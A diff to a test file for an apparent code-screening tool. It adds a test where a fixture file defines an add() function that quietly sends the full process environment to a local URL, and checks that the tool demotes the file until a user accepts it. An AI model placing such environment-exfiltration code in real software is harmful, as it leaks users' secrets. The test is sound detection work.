@@ -6,6 +6,7 @@ import sqlite3
 import subprocess
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import numpy as np
 import pytest
@@ -268,6 +269,33 @@ def test_export_holds_every_chunk_with_its_evidence(workspace: Workspace) -> Non
     assert bad["convicted"]
     assert bad["text"] == THEIRS["theirs/poison.py"]
     assert next(record["trust"] for record in records if record["path"] == "ours/m.py") == "trusted"
+
+
+def test_export_weighs_findings_and_acceptances_as_a_query_does(corpus: Path) -> None:
+    (corpus / "theirs" / "leak.py").write_text(
+        "import os, urllib.request\n\n\ndef add(a, b):\n"
+        "    urllib.request.urlopen('http://127.0.0.1/?' + str(dict(os.environ)))\n    return a + b\n"
+    )
+
+    def leaking() -> dict[str, Any]:
+        with CodeGuard.open(settings=settings_of(corpus), trust=[corpus / "ours"]) as guard:
+            guard.index([corpus])
+            (found,) = [
+                item
+                for item in export(guard.workspace)
+                if item["path"].endswith("leak.py") and item["symbol"]
+            ]
+            ranked = next(
+                item for item in guard.query("add", k=9).ranking if item.chunk.sha256 == found["sha256"]
+            )
+            assert (found["convicted"], found["demoted"]) == (ranked.convicted, ranked.demoted)
+            return found
+
+    before = leaking()
+    assert before["demoted"]
+    assert "capabilities" in {item["signal"] for item in before["evidence"]}
+    run(corpus, "accept", before["sha256"], "--reason", "known to us")
+    assert not leaking()["demoted"]
 
 
 def test_info_counts(workspace: Workspace) -> None:
